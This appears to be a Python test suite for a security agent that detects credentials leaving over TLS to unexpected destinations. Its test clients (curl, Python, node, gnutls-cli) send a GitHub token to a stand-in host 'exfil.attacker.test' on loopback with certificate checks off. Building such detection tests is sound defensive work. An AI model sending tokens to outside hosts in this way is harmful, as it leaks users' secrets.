# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""TLS egress: plaintext from the TLS library, attributed to the socket it goes out on."""
import http.client
import os
import shutil
import socket
import ssl
import subprocess
import tempfile
import time

from cwtest import Agent, Skip, github_token, require_root

EVIL = "exfil.attacker.test"


class TlsServer:
    """openssl s_server on a loopback port with a throwaway self-signed certificate."""

    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="cw-tls-")
        cert, key = os.path.join(self.dir, "c.pem"), os.path.join(self.dir, "k.pem")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout",
                        key, "-out", cert, "-days", "1", "-subj", "/CN=localhost"],
                       check=True, capture_output=True)
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        self.port = s.getsockname()[1]
        s.close()
        self.proc = subprocess.Popen(["openssl", "s_server", "-accept", str(self.port),
                                      "-cert", cert, "-key", key, "-www", "-quiet"],
                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        for _ in range(50):
            try:
                socket.create_connection(("127.0.0.1", self.port), 0.2).close()
                return
            except OSError:
                time.sleep(0.1)
        raise AssertionError("s_server did not start")

    def close(self):
        self.proc.kill()
        self.proc.wait()
        shutil.rmtree(self.dir, ignore_errors=True)


def run_client(args):
    agent = Agent("--include-loopback", *args.get("agent_args", []))
    srv = TlsServer()
    token = github_token()
    try:
        pid = args["client"](srv.port, token)
        hits = agent.wait_for(lambda l: l["event"]["action"] ==
                              "credential-unexpected-destination", timeout=15)
        time.sleep(0.5)	# anything more would be a duplicate: let it arrive
    finally:
        agent.stop()
        srv.close()
    hits = [l for l in agent.lines if l["event"]["action"] == "credential-unexpected-destination"]
    assert len(hits) == 1, (hits, agent.stderr())
    a = hits[0]
    assert a["tls"]["library"] == args["library"], a
    assert a["destination"]["port"] == srv.port
    assert a["destination"]["domain"] == EVIL
    assert a["destination"]["ip"] == "127.0.0.1"
    assert a["credential"]["fingerprint"] == agent.key.fingerprint(token)
    if pid:
        assert a["process"]["pid"] == pid
    agent.assert_no_plaintext(token)
    return a


def curl_client(port, token):
    hdr = tempfile.NamedTemporaryFile("w", delete=False)
    hdr.write("Authorization: token %s\n" % token)	# a header file: not in curl's argv
    hdr.close()
    p = subprocess.Popen(["curl", "-sk", "-o", "/dev/null", "-H", "@" + hdr.name, "--resolve",
                          "%s:%d:127.0.0.1" % (EVIL, port), "https://%s:%d/v1" % (EVIL, port)])
    p.wait()
    os.unlink(hdr.name)
    return p.pid


def test_curl_openssl():
    require_root()
    run_client({"client": curl_client, "library": "openssl"})


def test_python_urllib_openssl():
    require_root()

    def client(port, token):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        c = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=10)
        c.request("GET", "/v1", headers={"Host": EVIL, "Authorization": "token " + token})
        c.getresponse().read()
        c.close()
        return os.getpid()
    a = run_client({"client": client, "library": "openssl"})
    assert a["network"]["protocol"] == "http"


def test_node_https_static_openssl():
    require_root()
    if not shutil.which("node"):
        raise Skip("node is not installed (scripts/setup installs it)")
    script = (
        "const https=require('https');"
        "const r=https.request({host:'127.0.0.1',port:+process.env.PORT,path:'/v1',"
        "servername:'%s',rejectUnauthorized:false,headers:{Host:'%s',"
        "Authorization:'token '+process.env.TOKEN}},res=>{res.resume();res.on('end',()=>{})});"
        "r.end();" % (EVIL, EVIL))

    def client(port, token):
        p = subprocess.Popen(["node", "-e", script],
                             env={"PATH": os.environ["PATH"], "PORT": str(port), "TOKEN": token})
        p.wait(30)
        return p.pid
    run_client({"client": client, "library": "openssl"})


def test_gnutls_cli():
    require_root()
    if not shutil.which("gnutls-cli"):
        raise Skip("gnutls-cli is not installed (scripts/setup installs gnutls-bin)")

    def client(port, token):
        req = ("GET /v1 HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n"
               "Connection: close\r\n\r\n" % (EVIL, token))
        p = subprocess.Popen(["gnutls-cli", "--insecure", "--sni-hostname", EVIL, "-p",
                              str(port), "127.0.0.1"], stdin=subprocess.PIPE,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(1)	# the handshake first: gnutls-cli reads stdin once connected
        p.stdin.write(req.encode())
        p.stdin.flush()
        time.sleep(1)
        p.stdin.close()
        p.wait(30)
        return p.pid
    run_client({"client": client, "library": "gnutls"})


def test_tls_library_seen_without_loopback_capture():
    """Loopback TCP is not watched by default, but TLS plaintext is: the server name then
    comes from the request's Host header."""
    require_root()
    agent = Agent()
    srv = TlsServer()
    token = github_token()
    try:
        curl_client(srv.port, token)
        hits = agent.wait_for(lambda l: l["event"]["action"] ==
                              "credential-unexpected-destination", timeout=15)
    finally:
        agent.stop()
        srv.close()
    assert len(hits) == 1, agent.stderr()
    assert hits[0]["destination"]["domain"] == EVIL
    assert "ip" not in hits[0]["destination"]	# the socket was not tracked
